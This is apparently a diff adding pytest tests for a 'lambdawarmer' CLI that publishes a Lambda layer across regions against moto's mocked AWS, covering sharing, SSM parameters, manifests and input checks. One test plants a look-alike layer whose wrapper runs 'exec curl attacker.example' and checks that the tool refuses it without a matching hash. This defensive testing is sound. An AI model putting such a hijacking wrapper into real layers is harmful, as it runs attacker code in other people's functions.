@@ -1,0 +1,161 @@
+"""``lambdawarmer publish`` against moto's server in several regions: aligned version numbers,
+sharing, SSM parameters, the manifest, idempotency, a denied region resumed, and bad input named."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import boto3
+import pytest
+
+from .control_plane import REGION, make_function, run
+
+REGIONS = ("us-east-1", "eu-west-1", "ap-southeast-2")
+ORGANIZATION = "o-a1b2c3d4e5"
+
+
+def lambda_in(region: str) -> Any:
+    return boto3.client("lambda", region_name=region)
+
+
+def versions(region: str) -> list[int]:
+    return sorted(
+        v["Version"] for v in lambda_in(region).list_layer_versions(LayerName="lambdawarmer")["LayerVersions"]
+    )
+
+
+def publish(layer_zip: Path, manifest: Path, *extra: str) -> tuple[int, str]:
+    return run(
+        "publish", str(layer_zip), "--regions", ",".join(REGIONS), "--manifest", str(manifest),
+        "--region", REGION, *extra,
+    )  # fmt: skip
+
+
+def test_publish_aligns_shares_names_and_is_idempotent(
+    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, lambda_router: Any
+) -> None:
+    for _ in range(3):  # eu-west-1's counter is ahead: the others are brought up to it
+        lambda_in("eu-west-1").publish_layer_version(
+            LayerName="lambdawarmer", Content={"ZipFile": b"PK\x05\x06" + bytes(18)}
+        )
+    manifest = tmp_path / "manifest.json"
+    status, output = publish(
+        layer_zip, manifest, "--organization", ORGANIZATION, "--ssm-prefix", "/platform/lambdawarmer"
+    )
+    assert status == 0, output
+    document = json.loads(manifest.read_text())
+    assert (
+        document["version"]
+        == json.loads(zipfile.ZipFile(layer_zip).read("lambdawarmer-layer.json"))["version"]
+    )
+    assert set(document["regions"]) == set(REGIONS)
+    assert {arn.rsplit(":", 1)[1] for arn in document["regions"].values()} == {"4"}  # the same number
+    for region in REGIONS:
+        arn = document["regions"][region]
+        client = lambda_in(region)
+        version = client.get_layer_version(LayerName="lambdawarmer", VersionNumber=4)
+        assert version["CompatibleRuntimes"] == [f"python3.1{n}" for n in range(5)]
+        assert version["CompatibleArchitectures"] == ["x86_64", "arm64"]
+        assert version["LicenseInfo"] == "MIT"
+        assert document["sha256"] in version["Description"]
+        assert version["Content"]["CodeSha256"] == document["code_sha256"]
+        policy = json.loads(
+            client.get_layer_version_policy(LayerName="lambdawarmer", VersionNumber=4)["Policy"]
+        )
+        assert [(s["Principal"], s["OrganizationId"]) for s in policy["Statement"]] == [("*", ORGANIZATION)]
+        ssm = boto3.client("ssm", region_name=region)
+        for name in (f"/platform/lambdawarmer/{document['version']}", "/platform/lambdawarmer/latest"):
+            assert ssm.get_parameter(Name=name)["Parameter"]["Value"] == arn
+    assert versions("us-east-1") == [4]  # the versions below it were deleted
+
+    status, output = publish(
+        layer_zip, manifest, "--organization", ORGANIZATION, "--ssm-prefix", "/platform/lambdawarmer"
+    )
+    assert status == 0, output
+    assert output.count("already there") == len(REGIONS)
+    assert versions("us-east-1") == [4]
+
+
+def test_a_denied_region_is_reported_and_running_again_finishes(
+    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, lambda_router: Any
+) -> None:
+    lambda_router.denied_regions.add("ap-southeast-2")
+    manifest = tmp_path / "manifest.json"
+    status, output = publish(layer_zip, manifest, "--public")
+    assert status == 5, output
+    assert "ap-southeast-2  FAILED  AccessDeniedException" in output
+    assert "1 region(s) failed, 2 done: run the same command again" in output
+    assert set(json.loads(manifest.read_text())["regions"]) == {"us-east-1", "eu-west-1"}
+    lambda_router.denied_regions.clear()
+    status, output = publish(layer_zip, manifest, "--public")
+    assert status == 0, output
+    assert output.count("already there") == 2
+    assert set(json.loads(manifest.read_text())["regions"]) == set(REGIONS)
+
+
+@pytest.mark.parametrize(
+    ("extra", "says"),
+    [
+        (["--regions", "us-east-1,mars-north-1"], "mars-north-1 not a region of aws that offers Lambda"),
+        (["--organization", "acme"], "expected an organization id"),
+        (["--account", "12345"], "expected a 12-digit account id"),
+        (["--ssm-prefix", "no slash"], "expected a path"),
+        (["--public", "--organization", "o-a1b2c3d4e5"], "not allowed with"),
+    ],
+)
+def test_bad_input_is_named_before_anything_is_published(
+    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, extra: list[str], says: str
+) -> None:
+    status, output = run("publish", str(layer_zip), "--manifest", str(tmp_path / "m.json"), *extra)
+    assert (status, says in output) == (2, True), output
+    assert versions("us-east-1") == []
+
+
+def test_a_zip_that_is_not_ours_is_refused(aws: dict[str, Any], tmp_path: Path) -> None:
+    other = tmp_path / "other.zip"
+    with zipfile.ZipFile(other, "w") as archive:
+        archive.writestr("lambdawarmer-wrapper", "#!/bin/sh\n")
+    status, output = run("publish", str(other), "--regions", "us-east-1")
+    assert (status, "without its lambdawarmer-layer.json" in output) == (2, True), output
+
+
+def test_enable_attaches_a_layer_named_by_manifest_parameter_or_arn_only_when_its_content_is_known(
+    aws: dict[str, Any], layer_zip: Path, tmp_path: Path, lambda_router: Any
+) -> None:
+    make_function(aws)
+    manifest = tmp_path / "manifest.json"
+    status, output = publish(layer_zip, manifest, "--ssm-prefix", "/platform/lambdawarmer")
+    assert status == 0, output
+    ours = json.loads(manifest.read_text())["regions"][REGION]
+    sha256 = hashlib.sha256(layer_zip.read_bytes()).hexdigest()
+    # A look-alike: anyone allowed to publish layer versions can call one lambdawarmer.
+    other = zipfile.ZipFile(tmp_path / "other.zip", "w")
+    other.writestr("lambdawarmer-wrapper", "#!/bin/sh\nexec curl attacker.example\n")
+    other.close()
+    foreign = lambda_in(REGION).publish_layer_version(
+        LayerName="lambdawarmer", Content={"ZipFile": (tmp_path / "other.zip").read_bytes()}
+    )["LayerVersionArn"]
+    enable = ("enable", "orders", "--concurrency", "2", "--dry-run")
+    for way in (
+        ("--manifest", str(manifest)),
+        ("--layer-parameter", "/platform/lambdawarmer/latest", "--layer-sha256", sha256),
+        ("--layer-arn", ours, "--layer-sha256", sha256),
+        ("--layer-arn", foreign, "--trust-layer"),  # told to: it is not checked
+    ):
+        status, output = run(*enable, *way)
+        assert status == 0, (way, output)
+        assert f"+ {ours if way[1] != foreign else foreign}" in output, (way, output)
+    for way, says in (
+        (("--layer-arn", foreign, "--layer-sha256", sha256), "does not hold the content named"),
+        (("--layer-parameter", "/platform/lambdawarmer/latest"), "nothing to check its content against"),
+        (("--layer-arn", ours), "--trust-layer"),
+        (("--layer-parameter", "/no/such"), "cannot be read: ParameterNotFound"),
+        (("--layer-arn", ours, "--layer-sha256", "abc"), "64 hexadecimal digits"),
+        (("--manifest", str(tmp_path / "none.json")), "No such file"),
+    ):
+        status, output = run(*enable, *way)
+        assert (status, says in output) == (2, True), (way, output)
